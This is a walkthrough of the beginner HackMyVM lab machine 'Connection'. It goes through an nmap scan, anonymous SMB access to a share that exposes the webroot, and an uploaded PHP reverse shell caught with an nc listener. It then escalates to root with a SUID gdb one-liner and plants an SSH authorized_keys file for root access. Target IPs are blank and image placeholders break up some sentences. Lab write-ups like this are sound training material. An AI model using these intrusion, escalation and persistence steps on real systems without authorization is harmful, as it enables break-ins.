connection hackmyvm writeup walkthrough security

Connection – Writeup – HackMyVM – Walkthrough

Connection is an easy machine from HackMyVM. I recommend this to beginners. This machine works on VirtualBox. “Connection – Writeup – HackMyVM – Walkthrough”

Link to the machine:

Identify thetarget

Firstly, I started the exploitation by identifying the IP address of the machine.

fping -aqg
The IP address of the target is

Check for exposed services

Now that I have the IP address of the target, I can scan for the open ports. This would give me the exposed services on the target.

nmap -v -T4 -p- -sC -sV -oN nmap.log
Nmap scan result

We see that an SSH, an HTTP and an SMB port are open on the target.

Enumerate SMB

Next, I enumerated the SMB service. Thus, I ran the following command.smbmap -H
SMB server

Here, we can see that there is a share named “share” available that has “Read Only” access. This means that we cannot directly write on the share. However, this might not be true for the directory inside the share. We will see that in a minute. So, let’s log in anonymously.

smbclient -N \\\\\\share
Content inside share

From the screenshot above, we see that a directory “html” containing “index.html” is present on the share. This means that the share might be sharing the webroot of the target. Hence, if we inject a webshell inside the html directory, we might be able to get a shell. Here, I will be listening on port 9001 and using pentestmonkey’s PHP web shell. Also, you can generate the same shell from

nc -nlvp 9001 # To listen on the port
Put the shell on the html directory

Now, I can visit the path /shell.php from the web browser to call the script which in turn gives me the reverse shell. Next, I upgraded the reverse shell.

Upgrade to an intelligent reverse shell

Root privilegeescalation

In this machine, we don’t need to escalate to another user. That is, there is a SUID binary that gives us root access directly. Thus, I searched for these.

find / -perm -4000 -exec ls -al {} \; 2>/dev/null
gdb is one of the SUID binaries

Here, we see that gdb has SUID permissions. Hence, we can escalate to root as follows.


gdb -nx -ex 'python import os; os.execl("/bin/bash", "bash", "-p")' -ex quit
Effective root access

Here, we got effective root access. But, if we see our real user is www-data. This means that some operations might be restricted. For example, if you want to change the password by using the command “passwd”, it will change for the user “www-data”.

passwd will change the password of www-dataHowever, we can take care of this by adding authorized keys to the .ssh directory. Bydefault, the root user can log into the SSH server. Unless the admin has disallowed root from the sshd config file, we can log into it as the root.

mkdir .ssh
chmod 700 .ssh
cd .ssh
echo __your_ssh_public_key__ > authorized_keys
chmod 644 authorized_keys
Root user shell

Hence, it is important to remove SSH access to the root user.

0 0 votes
ArticleRating
Notify of
InlineFeedbacks
View all comments